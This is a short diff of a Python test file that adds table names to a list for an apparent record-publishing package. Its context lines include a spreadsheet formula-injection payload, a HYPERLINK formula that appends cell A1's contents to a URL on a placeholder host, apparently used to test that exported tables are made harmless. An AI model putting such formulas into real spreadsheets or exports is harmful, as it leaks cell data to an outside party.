@@ -33,7 +33,8 @@ from onrecord.publishing.tables import as_written, harmless
 from onrecord.record import TABLES, DuplicateRow, Record, UnreadRow, open_record, write_record
 
 NAMES = [
-    *("reports", "statements", "refusals", "actors", "offices", "identities", "decisions", "unread", "duplicates"),
+    *("reports", "statements", "refusals", "actors", "offices", "lineage", "divergences"),
+    *("identities", "decisions", "unread", "duplicates"),
 ]
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'
 TEXT = f"{FORMULA} said nobody. -1 degrees,\nthey “wrote” 😀."
